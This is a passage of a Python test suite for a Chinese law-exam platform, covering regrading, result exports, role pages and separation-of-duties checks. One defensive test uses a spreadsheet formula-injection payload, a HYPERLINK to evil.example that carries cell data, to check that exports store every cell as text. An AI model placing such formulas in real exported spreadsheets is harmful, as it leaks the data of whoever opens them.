    assert names("?q=_") == ["李_四"]
    assert len(names("?q=kaosheng0")) == 10
    assert names("?q=kaosheng0&state=submitted") == ["考生01"]
    assert "名单中还没有人员" not in client.get(url + "?q=nobody").text

    board = sittings.board(batch, clock.now(), GRACE, filters=sittings.BoardFilter(page=2))
    assert (board.total, board.count("not_started"), board.count("in_progress")) == (55, 53, 1)
    assert (board.count("submitted"), board.passed, board.page, board.pages) == (1, 1, 2, 2)


# --- regrading ---------------------------------------------------------------------


@pytest.fixture
def regrade_setup(law, make_user):
    """A fixed paper of ten 判断 worth 10 each; one question's key is later corrected.
    Two people answered it 正确 (right under the old key), one 错误."""
    questions = add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    people = [make_user(name=name) for name in ("甲", "乙", "丙", "丁")]
    add_batch(exam, people)
    taken = [take(person, exam) for person in people[:2]]
    taken.append(take(people[2], exam, answers={"true_false": [1]}))
    writing = take(people[3], exam, submit=False)
    target = questions[0]
    return exam, target, taken, writing


def correct_key(question, **changes):
    draft = bank.current_draft(question)
    draft.answer = [1]
    for name, value in changes.items():
        setattr(draft, name, value)
    version = bank.edit_question(SYSTEM, question, draft, "更正答案")
    db.session.commit()
    return version


def test_the_regrade_preview_changes_nothing(regrade_setup):
    exam, question, taken, _writing = regrade_setup
    old_version = question.current_version
    new_version = correct_key(question)
    audit_count = db.session.scalar(select(func.count()).select_from(AuditEntry))

    plan = regrade.regrade_preview(exam, question.id)
    assert [row.attempt.user.name for row in plan.rows] == ["甲", "乙", "丙"]
    first, _, third = plan.rows
    assert (first.old_points, first.new_points) == (Decimal("10.00"), Decimal("0.00"))
    assert (first.old_score, first.new_score) == (Decimal("100.00"), Decimal("90.00"))
    assert not first.pass_changed and first.new_grade == "优秀"
    assert (third.old_score, third.new_score) == (Decimal("0.00"), Decimal("10.00"))
    assert plan.score_changes == 3 and plan.in_progress == 1

    assert not db.session.dirty and not db.session.new
    db.session.expire_all()
    assert db.session.scalar(select(func.count()).select_from(AuditEntry)) == audit_count
    assert [a.score for a in taken] == [Decimal(100), Decimal(100), Decimal(0)]
    versions = db.session.scalars(
        select(PaperItem.question_version_id).where(
            PaperItem.question_version_id.in_([old_version.id, new_version.id])
        )
    ).all()
    assert set(versions) == {old_version.id}


def test_applying_a_regrade_rescores_and_is_audited(regrade_setup, client, login_as):
    exam, question, taken, writing = regrade_setup
    old_version = question.current_version
    new_version = correct_key(question)
    login_as(Role.TRAINER)
    listing = client.get(f"/manage/exams/{exam.id}/regrade").text
    assert "预览重新评分" in listing and "答案" in listing
    preview = client.get(f"/manage/exams/{exam.id}/regrade/{question.id}")
    assert preview.status_code == 200
    assert "100.00 → <strong>90.00</strong>" in preview.text and "这是预览" in preview.text

    applied = client.post(f"/manage/exams/{exam.id}/regrade/{question.id}", follow_redirects=True)
    assert "已重新评分 3 份答卷：3 份成绩变化，0 人合格情况变化" in applied.text
    db.session.expire_all()
    assert [a.score for a in taken] == [Decimal(90), Decimal(90), Decimal(10)]
    assert [a.grade_label for a in taken] == ["优秀", "优秀", "不合格"]
    moved = db.session.scalars(
        select(PaperItem.question_version_id).where(
            PaperItem.question_version_id.in_([old_version.id, new_version.id])
        )
    ).all()
    assert set(moved) == {new_version.id} and len(moved) == 4  # the open attempt too
    assert new_version.id in {entry[1] for entry in exam.pools[0]}
    assert old_version.id not in {entry[1] for entry in exam.pools[0]}
    (entry,) = audit_entries("exam.regrade")
    assert entry.detail_dict["attempts"] == 3 and entry.detail_dict["score_changes"] == 3
    assert entry.detail_dict["in_progress"] == 1
    assert "第1版→第2版" in entry.summary

    # The open attempt is marked with the corrected key when it is submitted.
    attempts.submit(writing, clock.now(), "candidate")
    assert writing.score == Decimal(90)
    # Nothing left to regrade: a second apply is refused.
    with pytest.raises(SetupError, match="没有使用试题"):
        regrade.apply_regrade(SYSTEM, exam, question.id)


def test_a_candidate_starting_after_a_regrade_gets_the_corrected_version(regrade_setup, make_user):
    exam, question, _taken, _writing = regrade_setup
    old_version = question.current_version
    revision = exam.pools_revision
    # The starts in the set-up left this process with the exam's pools parsed.
    assert (exam.id, revision) in attempts._POOLS
    new_version = correct_key(question)
    regrade.apply_regrade(SYSTEM, exam, question.id)
    db.session.commit()
    # The revision moved in the database, where every worker reads it at its next start.
    db.session.expire_all()
    assert db.session.scalar(select(models.Exam.pools_revision)) == revision + 1

    latecomer = make_user(name="迟到者")
    sittings.add_members(SYSTEM, exam.batches[0], [latecomer])
    db.session.commit()
    attempt = take(latecomer, exam, submit=False)
    versions = {item.question_version_id for item in attempt.items}
    assert new_version.id in versions and old_version.id not in versions


def test_a_regrade_that_changes_pass_or_fail_says_so(law, make_user):
    add_questions("true_false", 9)
    key_question = add_questions("single", 1)[0]
    exam = published_exam(
        make_blueprint(
            SectionData("true_false", 9, Decimal(6)), SectionData("single", 1, Decimal(46))
        )
    )
    person = make_user()
    add_batch(exam, [person])
    attempt = take(person, exam, answers={"true_false": [0], "single": [2]})
    assert (attempt.score, attempt.passed) == (Decimal(54), False)
    draft = bank.current_draft(key_question)
    draft.answer = [2]
    bank.edit_question(SYSTEM, key_question, draft)
    db.session.commit()
    plan = regrade.apply_regrade(SYSTEM, exam, key_question.id)
    assert plan.pass_changes == 1
    assert (attempt.score, attempt.passed, attempt.grade_label) == (Decimal(100), True, "优秀")


def test_a_version_that_changed_more_than_the_key_is_refused(regrade_setup, client, login_as):
    exam, question, taken, _writing = regrade_setup
    correct_key(question, stem="改写后的题干：依照宪法，下列说法正确的是")
    with pytest.raises(SetupError, match="修改不只是答案（还修改了：题干）"):
        regrade.regrade_preview(exam, question.id)
    login_as(Role.TRAINER)
    assert "不只更正答案" in client.get(f"/manage/exams/{exam.id}/regrade").text
    refused = client.post(f"/manage/exams/{exam.id}/regrade/{question.id}", follow_redirects=True)
    assert "修改不只是答案" in refused.text
    assert audit_entries("exam.regrade") == []
    db.session.expire_all()
    assert [a.score for a in taken] == [Decimal(100), Decimal(100), Decimal(0)]


def test_a_fill_in_key_gains_an_accepted_answer(law, make_user):
    (question,) = add_questions("fill_blank", 1)
    exam = published_exam(make_blueprint(SectionData("fill_blank", 1, Decimal(100))))
    person = make_user()
    add_batch(exam, [person])
    attempt = take(person, exam, answers={"fill_blank": ["15日"]})
    assert attempt.score == Decimal(0)
    draft = bank.current_draft(question)
    draft.blanks = [["十五日", "15日"]]
    bank.edit_question(SYSTEM, question, draft, "补充可接受答案")
    db.session.commit()
    plan = regrade.apply_regrade(SYSTEM, exam, question.id)
    assert (plan.score_changes, plan.pass_changes) == (1, 1)
    assert (attempt.score, attempt.passed) == (Decimal(100), True)


def test_topics_tagged_in_bulk_do_not_block_a_regrade(regrade_setup):
    exam, question, _taken, _writing = regrade_setup
    bank.bulk_tag(SYSTEM, [question], "基本权利")  # no new version
    db.session.commit()
    correct_key(question)  # the new version carries the tag the old one lacks
    assert regrade.regrade_candidates(exam)[0].key_only
    plan = regrade.apply_regrade(SYSTEM, exam, question.id)
    assert [row.new_score for row in plan.rows] == [Decimal(90), Decimal(90), Decimal(10)]


# --- results and the export --------------------------------------------------------


def seed_attempts(exam, batch, user, scores):
    for number, score in enumerate(scores, start=1):
        db.session.add(
            Attempt(
                exam_id=exam.id,
                batch_id=batch.id,
                user_id=user.id,
                number=number,
                status=AttemptStatus.SUBMITTED.value,
                started_at=NOW,
                deadline_at=NOW + timedelta(minutes=30),
                submitted_at=NOW + timedelta(minutes=number),
                score=Decimal(score),
                max_score=Decimal(100),
                passed=score >= 60,
                grade_label="合格" if score >= 60 else "不合格",
            )
        )
    db.session.flush()
    summaries.rebuild([exam.id])  # written here without the service that keeps them
    db.session.commit()


@pytest.mark.parametrize(
    ("counting", "number", "score"),
    # best: the earliest of two equal best scores
    [("best", 2, "90.00"), ("last", 4, "50.00"), ("first", 1, "70.00")],
)
def test_results_count_the_attempt_the_rule_names(law, tree, counting, number, score):
    bureau, _section, town, people, admin = tree
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()), counting=counting, attempts_allowed=4)
    batch = add_batch(exam, people[bureau] + people[town])
    seed_attempts(exam, batch, people[bureau][0], [70, 90, 90, 50])
    seed_attempts(exam, batch, people[town][0], [65])

    outcome = results.results(exam, clock.now(), GRACE)
    rows = {row.name: row for row in outcome.rows}
    counted = rows["区司法局1"]
    assert (counted.number, str(counted.score), counted.submitted) == (number, score, 4)
    assert rows["区司法局2"].number is None and rows["区司法局2"].state_label == "未开始"
    units = {rate.path.rsplit(" / ", 1)[-1]: rate for rate in outcome.units}
    passed = counting != "last"
    assert (units["区司法局"].assigned, units["区司法局"].took) == (2, 1)
    assert units["区司法局"].passed == int(passed)
    assert units["区司法局"].rate == ("100.0%" if passed else "0.0%")
    assert units["城关镇"].rate == "100.0%"

    scoped = results.results(exam, clock.now(), GRACE, accounts.manageable_unit_ids(admin))
    assert {row.name for row in scoped.rows} == {"区司法局1", "区司法局2"}
    assert [rate.path for rate in scoped.units] == ["测试区人民政府 / 区司法局"]


def test_the_export_is_audited_and_scoped(law, tree, client, auth):
    bureau, _section, town, people, admin = tree
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    batch = add_batch(exam, people[bureau] + people[town])
    seed_attempts(exam, batch, people[bureau][0], [85])
    seed_attempts(exam, batch, people[town][0], [40])
    auth.login(admin)
    page = client.get(f"/manage/exams/{exam.id}/results").text
    assert (
        "区司法局1" in page and "城关镇1" not in page and "合格率 <strong>100.0%</strong>" in page
    )
    assert "按考试时所在单位统计" in page

    response = client.post(f"/manage/exams/{exam.id}/results/export/csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["姓名", "账号", "单位"]
    assert {row[0] for row in rows[1:]} == {"区司法局1", "区司法局2"}
    first = next(row for row in rows if row[0] == "区司法局1")
    assert first[3] == "已交卷" and first[7:11] == ["85.00", "100.00", "合格", "合格"]

    xlsx = client.post(f"/manage/exams/{exam.id}/results/export/xlsx")
    assert xlsx.mimetype == XLSX_MIMETYPE
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    assert sheet.cell(2, 1).value == "姓名" and sheet.max_row == 4

    entries = audit_entries("exam.export")
    assert [entry.detail_dict["format"] for entry in entries] == ["csv", "xlsx"]
    assert entries[0].actor_login == admin.login and entries[0].detail_dict["rows"] == 2
    assert client.post(f"/manage/exams/{exam.id}/results/export/pdf").status_code == 302
    assert len(audit_entries("exam.export")) == 2


def test_an_export_cell_cannot_become_a_formula(law, make_user, root_unit):
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    person = make_user(name="=HYPERLINK(1)")
    batch = add_batch(exam, [person])
    seed_attempts(exam, batch, person, [70])
    data = results.export_results(SYSTEM, exam, "csv", clock.now(), GRACE).decode("utf-8")
    assert "'=HYPERLINK(1)" in data


def test_every_cell_of_the_xlsx_export_is_text_never_a_formula(law, make_user, root_unit):
    add_questions("true_false", 10)
    title = '=HYPERLINK("http://evil.example/?"&B3,"查看成绩")'
    exam = published_exam(make_blueprint(ten_true_false()), title=title)
    person = make_user(name="=1+1", login="formula")
    seed_attempts(exam, add_batch(exam, [person]), person, [70])
    data = results.export_results(SYSTEM, exam, "xlsx", clock.now(), GRACE)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert len(sheets) == 2  # the people, and the units
        assert all(b"<f>" not in archive.read(name) for name in sheets)
    sheet = load_workbook(io.BytesIO(data)).active
    assert (sheet["A1"].value, sheet["A1"].data_type) == (title, "s")
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("=1+1", "s")


# --- pages -------------------------------------------------------------------------


def test_the_pages_render_for_their_roles(law, tree, client, auth, make_user):
    bureau, _section, _town, people, admin = tree
    add_questions("true_false", 10)
    blueprint = make_blueprint(ten_true_false())
    exam = published_exam(blueprint)
    draft_exam(blueprint, title="草稿考试")
    batch = add_batch(exam, people[bureau])
    trainer = make_user(Role.TRAINER)
    auth.login(trainer)
    assert "组卷与考试" in client.get("/").text
    exams = client.get("/manage/exams").text
    assert "草稿考试" in exams and "更正重评" in exams and "结束考试" in exams
    assert "测试组卷" in client.get("/manage/blueprints").text
    edit = client.get(f"/manage/blueprints/{blueprint.id}/edit").text
    assert "不能修改" in edit
    copy = client.get(f"/manage/blueprints/new?copy={blueprint.id}").text
    assert "测试组卷（副本）" in copy
    auth.logout()
    auth.login(admin)
    assert "考试场次" in client.get("/").text
    sitting_page = client.get("/manage/sittings").text
    assert "任前学法考试（测试）" in sitting_page and "草稿考试" not in sitting_page
    assert client.get(f"/manage/exams/{exam.id}/batches/new").status_code == 200
    assert client.get(f"/manage/batches/{batch.id}").status_code == 200


def test_members_stay_unique_per_batch(law, make_user):
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    person = make_user()
    batch = add_batch(exam, [person])
    assert sittings.add_members(SYSTEM, batch, [person]) == 0
    db.session.commit()
    count = db.session.scalar(
        select(func.count()).select_from(BatchMember).where(BatchMember.batch_id == batch.id)
    )
    assert count == 1


# --- who sees keys does not sit; who sits does not regrade ----------------------------


def test_a_trainer_cannot_start_an_exam(law, make_user, client, auth):
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    trainer = make_user(Role.TRAINER, Role.LEARNER)
    add_batch(exam, [trainer])
    with pytest.raises(attempts.ExamError, match="不能参加考试"):
        attempts.start_attempt(trainer, exam, clock.now(), random.Random(1))
    auth.login(trainer)
    response = client.post(f"/exams/{exam.id}/start", follow_redirects=True)
    assert "您有培训出题人员权限，能在题库中看到试题和答案，不能参加考试" in response.text
    assert db.session.scalar(select(func.count(Attempt.id))) == 0


def test_the_bank_is_closed_to_anyone_writing_an_exam(law, make_user, client, auth):
    questions = add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    person = make_user(Role.LEARNER)
    add_batch(exam, [person])
    attempt = take(person, exam, submit=False)
    person.set_roles({Role.LEARNER, Role.TRAINER})  # granted while writing
    db.session.commit()
    auth.login(person)
    for url in ("/bank/", f"/bank/{questions[0].id}", "/laws/"):
        refused = client.get(url)
        assert refused.status_code == 403, url
        assert "您有正在进行的考试，交卷之前不能打开题库" in refused.text
    as_json = client.get("/bank/", headers={"Accept": "application/json"})
    assert as_json.status_code == 403 and as_json.json["error"] == "attempt_in_progress"
    attempts.submit(attempt, clock.now(), "candidate")
    db.session.commit()
    assert client.get("/bank/").status_code == 200


def test_a_candidate_cannot_regrade_their_own_exam(regrade_setup, make_user, client, auth):
    exam, question, taken, _writing = regrade_setup
    correct_key(question)
    on_roster = make_user(Role.TRAINER, Role.LEARNER)
    add_batch(exam, [on_roster], name="第二批")
    sat = taken[0].user
    sat.set_roles({Role.LEARNER, Role.TRAINER})  # sat the exam, a trainer since
    db.session.commit()
    for candidate in (on_roster, sat):
        auth.login(candidate)
        for url in (f"/manage/exams/{exam.id}/regrade", f"/manage/exams/{exam.id}/regrade/1"):
            page = client.get(url.replace("/1", f"/{question.id}"), follow_redirects=True)
            assert "您是本考试的考生，不能查看或执行本考试的重新评分" in page.text
            assert "预览重新评分" not in page.text and "这是预览" not in page.text
        applied = client.post(
            f"/manage/exams/{exam.id}/regrade/{question.id}", follow_redirects=True
        )
        assert "您是本考试的考生" in applied.text
        auth.logout()
    with pytest.raises(SetupError, match="您是本考试的考生"):
        regrade.apply_regrade(Actor(id=sat.id, login=sat.login), exam, question.id)
    db.session.expire_all()
    assert [a.score for a in taken] == [Decimal(100), Decimal(100), Decimal(0)]
    assert audit_entries("exam.regrade") == []
